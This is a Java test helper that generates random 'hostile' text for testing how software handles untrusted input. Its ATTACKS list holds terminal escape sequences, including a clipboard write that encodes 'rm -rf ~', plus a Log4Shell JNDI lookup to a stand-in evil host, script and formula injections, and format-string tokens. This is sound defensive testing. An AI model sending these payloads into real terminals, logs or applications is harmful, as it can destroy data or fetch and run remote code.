package io.lcollections.support;

import java.util.List;
import java.util.Random;
import java.util.stream.Stream;

/** Text that a stranger could send: any code points, pieces of scripts, and attacks on terminals and what else shows it. */
public final class HostileText {
    private static final int LONGEST = 12;

    /** What a sequence begins with, in both of its codings; and what ends one. */
    private static final List<String> ATTACKS = List.of(
            "\u001b[2J",
            "\u001b[H",
            "\u001b[31m",
            "\u001b[0m",
            "\u001b[8m",
            "\u001b[1A",
            "\u001b[999C",
            "\u001b[6n",
            "\u001b[5n",
            "\u001b[c",
            "\u001b[>c",
            "\u001b[?1049h",
            "\u001b[?25l",
            "\u001b[20h",
            "\u001b[?2004h",
            "\u001b[21t",
            "\u001b[8;1;1t",
            "\u001b[1;1r",
            "\u001b[3g",
            "\u001b[2K",
            "\u001b[1@",
            "\u001bc",
            "\u001b7",
            "\u001b8",
            "\u001bM",
            "\u001bD",
            "\u001bE",
            "\u001b(0",
            "\u001b)B",
            "\u001b#8",
            "\u001bZ",
            "\u001b=",
            "\u001b]0;title\u0007",
            "\u001b]2;title\u001b\\",
            "\u001b]52;c;cm0gLXJmIH4=\u0007",
            "\u001b]4;1;?\u0007",
            "\u001b]8;;https://evil.example\u001b\\here\u001b]8;;\u001b\\",
            "\u001b]10;?\u001b\\",
            "\u001b]1337;File=:\u0007",
            "\u001b]9;note\u0007",
            "\u001b]777;notify;a;b\u0007",
            "\u001bP$q\"p\u001b\\",
            "\u001bP+q544e\u001b\\",
            "\u001b_Gf=24;\u001b\\",
            "\u001b^private\u001b\\",
            "\u001bXtext\u001b\\",
            "\u001bk name\u001b\\",
            "\u009b31m",
            "\u009d0;title\u009c",
            "\u0090q\u009c",
            "\u009f\u009c",
            "\u0085",
            "\u008d",
            "\u0084",
            "\u0000",
            "\u0005",
            "\u0007",
            "\b\b\b",
            "\t",
            "\n",
            "\u000b",
            "\f",
            "\r",
            "\r\n",
            "\u000e",
            "\u000f",
            "\u0018",
            "\u001a",
            "\u007f",
            "\u202a",
            "\u202b",
            "\u202c",
            "\u202d",
            "\u202e",
            "\u2066",
            "\u2067",
            "\u2068",
            "\u2069",
            "\u200e",
            "\u200f",
            "\u061c",
            "\u2028",
            "\u2029",
            "\u200b",
            "\u2060",
            "\u2061",
            "\ufeff",
            "\u00ad",
            "\u180e",
            "\u034f",
            "\u115f",
            "\u1160",
            "\u3164",
            "\uffa0",
            "\u2800",
            "\ufffe",
            "\uffff",
            "\ufdd0",
            "\ufff9",
            "\ufffb",
            "\ud800",
            "\udc00",
            "\udbff\udbff",
            "\udc00\ud800",
            "\ue000",
            "\udbc0\udc00",
            "\udb40\udc01",
            "\udb40\udc41\udb40\udc42\udb40\udc7f",
            "\ud83c\udff4\udb40\udc67\udb40\udc62\udb40\udc65\udb40\udc6e\udb40\udc67\udb40\udc7f",
            "\udb40\udd00",
            "\ufe0e",
            "\ufe0f",
            "\u200c",
            "\u200d",
            "\u20e3",
            "\u0301\u0301\u0301\u0301\u0301\u0301\u0301",
            "\u0488",
            "\u0e33",
            "\u0f39",
            "\u1dff",
            "\ufe20",
            "\\",
            "\\u{1b}",
            "\\\\",
            "\"",
            "'",
            "|",
            "`",
            "<script>",
            "</td>",
            "<!--",
            "-->",
            "&lt;",
            "&#27;",
            "javascript:alert(1)",
            "](https://evil.example)",
            "=1+1",
            "@SUM(1)",
            "${jndi:ldap://evil.example}",
            "%s%n",
            "\u2026");

    private static final List<String> PIECES = List.of(
            "name",
            "12",
            "  ",
            "理科生",
            "コレクション",
            "한국의",
            "\u1112\u1161\u11ab",
            "עברית",
            "عناقيد",
            "٣٤",
            "संग्रह",
            "ชุด",
            "é",
            "e\u0301",
            "👍🏽",
            "👨‍👩‍👧‍👦",
            "🇯🇵",
            "🇯",
            "☺️",
            "☺︎",
            "❤",
            "1️⃣",
            "𝔉",
            "ﷺ",
            "ｶﾞ",
            "Ａ",
            "\u3000",
            "\ud83e\udee8",
            "0x1abe8e24312e9fe614b5c9c67b472b3ecb3b8788",
            "DEPLOYED");

    private HostileText() {}

    /** Some text, of up to a dozen pieces; now and then empty. */
    public static String any(Random random) {
        StringBuilder text = new StringBuilder();
        for (int left = random.nextInt(LONGEST); left > 0; left--) {
            switch (random.nextInt(4)) {
                case 0 -> text.append(ATTACKS.get(random.nextInt(ATTACKS.size())));
                case 1 -> text.append(PIECES.get(random.nextInt(PIECES.size())));
                case 2 -> text.appendCodePoint(random.nextInt(Character.MAX_CODE_POINT + 1));
                default -> text.appendCodePoint(random.nextInt(0x3100));
            }
        }
        return text.toString();
    }

    /** Texts that are a little simpler. */
    public static Stream<String> simpler(String text) {
        Stream<String> halves = text.length() < 2
                ? Stream.of("")
                : Stream.of(text.substring(0, text.length() / 2), text.substring(text.length() / 2));
        Stream<String> without = java.util.stream.IntStream.range(0, text.length())
                .mapToObj(i -> text.substring(0, i) + text.substring(i + 1));
        return text.isEmpty() ? Stream.empty() : Stream.concat(halves, without);
    }

    /** As a literal of Java, so that a failure can be read and told. */
    public static String escaped(String text) {
        StringBuilder literal = new StringBuilder();
        text.chars()
                .forEach(unit -> literal.append(
                        unit >= ' ' && unit <= '~' ? String.valueOf((char) unit) : String.format("\\u%04x", unit)));
        return literal.toString();
    }
}
